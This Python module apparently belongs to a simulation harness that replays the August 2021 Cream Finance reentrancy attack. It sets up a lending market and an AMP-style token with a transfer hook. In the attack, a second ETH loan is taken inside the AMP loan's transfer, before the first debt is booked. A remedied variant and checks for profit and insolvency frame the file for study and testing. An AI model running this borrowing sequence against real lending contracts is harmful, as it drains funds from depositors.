"""Cream, 30 August 2021: a token that tells its receiver, and a market that pays before it books.

Inside the transfer of one loan the borrower takes a second one, for which the market still sees no
debt. The token of that day was AMP.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from eth_hash.auto import keccak

from harness.attacks.calls import borrow, call, encoded, supply
from harness.attacks.holdings import PooledClaims
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Lending, Stage
from harness.people import MINTER


@dataclass(frozen=True)
class Hook(Parameters):
    """Whole tokens; ETH at $3,200, AMP at $0.056.

    eth: the attacker's collateral
    ltv_bps: of all collateral
    """

    eth: float = 500.0
    ltv_bps: int = 7_500
    lendable_eth: float = 5_000.0
    lendable_amp: float = 100_000_000.0


def play(stage: Stage, p: Hook) -> Generator[int | None, None, None]:
    """Borrows AMP to the limit, and in its hook ETH to the same limit."""
    eth = stage.token("ETH", 3_200)
    amp = stage.adopt("AMP", stage.deploy("HookToken", "AMP", "AMP", 18, MINTER), 0.056)
    for symbol in ("ETH", "AMP"):
        stage.feed(symbol)
    market = _market(stage, p)
    stage.supplier("supplier", market, ETH=p.lendable_eth, AMP=p.lendable_amp)
    attacker = stage.actor("attacker", ETH=p.eth)
    stage.approve(attacker, ["ETH"], market)
    yield None

    worth = p.eth * 3_200 * p.ltv_bps / 10_000
    second = borrow(market.market, eth, stage.units("ETH", worth / 3_200), attacker)
    hook = keccak(b"reenter((address,bool,bytes,address,bytes,uint256,uint256)[])")[:4]
    stage.send(
        "supply ETH, borrow AMP up to the limit, and as much in ETH inside its transfer",
        attacker,
        supply(market.market, eth, stage.units("ETH", p.eth), attacker),
        call(amp, "setHook", hook + encoded([second])),
        borrow(market.market, amp, stage.units("AMP", round(worth / 0.056, 6)), attacker),
    )
    yield None


def _market(stage: Stage, p: Hook) -> Lending:
    if p.remedied:
        terms = {"ltv": p.ltv_bps, "threshold": p.ltv_bps}
        return stage.lending("market", {"ETH": terms, "AMP": {}})
    tokens = {symbol: stage.tokens[symbol] for symbol in ("ETH", "AMP")}
    addresses = [token.address for token in tokens.values()]
    feeds = [stage.feeds[symbol].address for symbol in tokens]
    market = stage.deploy("UnlockedLending", addresses, feeds, p.ltv_bps)
    stage.venues.append(PooledClaims("market", market, tokens))
    return Lending("market", market, tokens)


ATTACK = Attack(
    name="callback-reentrancy",
    title="a second loan inside the transfer of the first, before its debt is booked",
    sources=("Cream Finance and AMP, 30 August 2021",),
    play=play,
    parameters=Hook(),
    remedy="a market that books first and is locked while it pays",
    stopped_by="Reentrancy",
    protocol=(Check("profit", at_most=0), Check("insolvency", at_most=0)),
    goal=lambda p: Check("profit", at_least=p.eth * 3_200 * (2 * p.ltv_bps / 10_000 - 1) * 0.999),
)
